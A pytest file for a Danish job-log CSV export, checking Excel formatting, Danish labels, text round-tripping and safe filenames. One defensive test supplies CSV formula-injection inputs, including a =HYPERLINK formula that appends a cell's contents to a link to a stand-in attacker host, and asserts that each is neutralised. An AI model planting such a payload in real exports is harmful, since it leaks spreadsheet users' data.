"""The joblog CSV export: opens in Danish Excel (BOM, `;`, ISO dates), survives awkward text, runs no formulas."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from portal.i18n import force_locale
from portal.joblog.export import COLUMNS, csv_bytes, csv_chunks, filename
from portal.joblog.models import JobLogEntry

DANISH_HEADER = [
    "Type",
    "Dato",
    "Stilling/aktivitet",
    "Virksomhed",
    "Arbejdssted",
    "Ansøgningstype",
    "Status",
    "Resultat",
    "Plan",
    "Ansøgningsfrist",
    "Kontaktperson",
    "Link",
    "Noter",
]
NOTE = 'Ring igen; spørg efter "Åse"\nnæste uge'


def entry(**fields) -> JobLogEntry:
    """An application in memory (never saved), with the given fields changed."""
    values = {
        "entry_type": "application",
        "job_title": "Lagermedarbejder",
        "employer": "Æblegården ApS",
        "location": "Køge",
        "application_type": "advertised",
        "activity_kind": None,
        "applied_on": date(2026, 9, 1),
        "deadline": None,
        "contact_person": None,
        "link": None,
        "status": "applied",
        "result": None,
        "track": "A",
        "notes": None,
    }
    values.update(fields)
    return JobLogEntry(**values)


def parse(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def cells(row: list[str]) -> dict[str, str]:
    return dict(zip(DANISH_HEADER, row, strict=True))


@pytest.fixture
def danish(app):
    with app.test_request_context("/", headers={"Accept-Language": "da"}):
        yield


def export(*entries: JobLogEntry) -> list[dict[str, str]]:
    header, *rows = parse(csv_bytes(entries))
    assert header == DANISH_HEADER
    return [cells(row) for row in rows]


def test_excel_format_bom_semicolons_and_crlf(danish):
    data = csv_bytes([entry(), entry(job_title="Chauffør")])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == 3 and b"\n" not in data.replace(b"\r\n", b"")
    assert data[3:].split(b"\r\n")[0].decode("utf-8") == ";".join(DANISH_HEADER)


def test_header_and_labels_in_danish(danish):
    [row] = export(entry(status="closed", result="got_job", deadline=date(2026, 8, 28)))
    assert row == {
        "Type": "Jobsøgning",
        "Dato": "2026-09-01",
        "Stilling/aktivitet": "Lagermedarbejder",
        "Virksomhed": "Æblegården ApS",
        "Arbejdssted": "Køge",
        "Ansøgningstype": "Opslået stilling",
        "Status": "Afsluttet",
        "Resultat": "Fik jobbet",
        "Plan": "Plan A",
        "Ansøgningsfrist": "2026-08-28",
        "Kontaktperson": "",
        "Link": "",
        "Noter": "",
    }


def test_applied_status_and_empty_optional_fields(danish):
    [row] = export(entry(status="applied", track=None, location=None, employer=None))
    assert (row["Status"], row["Plan"], row["Arbejdssted"], row["Virksomhed"]) == ("Søgt", "", "", "")


def test_other_activity_shows_its_kind_as_application_type(danish):
    [row] = export(
        entry(entry_type="other", job_title="Jobmesse i Holbæk", application_type=None, activity_kind="job_fair")
    )
    assert (row["Type"], row["Ansøgningstype"]) == ("Anden aktivitet", "Jobmesse")


def test_danish_letters_and_awkward_notes_round_trip(danish):
    [row] = export(entry(notes=NOTE, contact_person="Søren Ærø-Østergaard", link="https://job.example/1?a=1;b=2"))
    assert row["Noter"] == NOTE
    assert row["Kontaktperson"] == "Søren Ærø-Østergaard"
    assert row["Link"] == "https://job.example/1?a=1;b=2"


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("https://evil.example?x="&A1;"Klik")', "+1", "-2", "@SUM(A1:A9)", "\t=1", "\r=1"]
)
def test_formula_like_text_is_prefixed_with_an_apostrophe(danish, text):
    [row] = export(entry(job_title=text, employer=text, location=text, contact_person=text, link=text, notes=text))
    for column in ("Stilling/aktivitet", "Virksomhed", "Arbejdssted", "Kontaktperson", "Link", "Noter"):
        assert row[column] == "'" + text, column


def test_harmless_text_is_left_alone(danish):
    [row] = export(entry(job_title="Kok (2-skift)", notes="Samtale 1=god, gik +/- fint"))
    assert (row["Stilling/aktivitet"], row["Noter"]) == ("Kok (2-skift)", "Samtale 1=god, gik +/- fint")


def test_chunks_stream_header_first_then_one_per_entry(danish):
    chunks = list(csv_chunks(iter([entry(), entry(), entry()])))
    assert len(chunks) == 4
    assert chunks[0].startswith(b"\xef\xbb\xbf") and chunks[0].endswith(b"\r\n")
    assert not any(chunk.startswith(b"\xef\xbb\xbf") for chunk in chunks[1:])
    assert b"".join(chunks) == csv_bytes([entry(), entry(), entry()])


def test_no_entries_gives_just_the_header(danish):
    assert parse(csv_bytes([])) == [DANISH_HEADER]


def test_english_request_renders_in_english(danish):
    """The English catalogue does not have most of these texts yet (they are new, `make translations`
    adds them): only headers already translated elsewhere are asserted, plus that nothing breaks."""
    with force_locale("en"):
        header, row = parse(csv_bytes([entry()]))
    assert len(header) == len(row) == len(COLUMNS)
    assert header[1] == "Date" and header[10] == "Contact person"
    assert row[1] == "2026-09-01"


@pytest.mark.parametrize(
    "start, end, expected",
    [
        (date(2026, 9, 1), date(2026, 11, 23), "joblog-2026-09-01-til-2026-11-23.csv"),
        (None, None, "joblog.csv"),
        (date(2026, 9, 1), None, "joblog-fra-2026-09-01.csv"),
        (None, date(2026, 11, 23), "joblog-til-2026-11-23.csv"),
    ],
)
def test_filename_is_ascii_and_names_the_period(start, end, expected):
    name = filename(start, end)
    assert name == expected
    assert name.isascii() and all(ch.isalnum() or ch in "-." for ch in name)
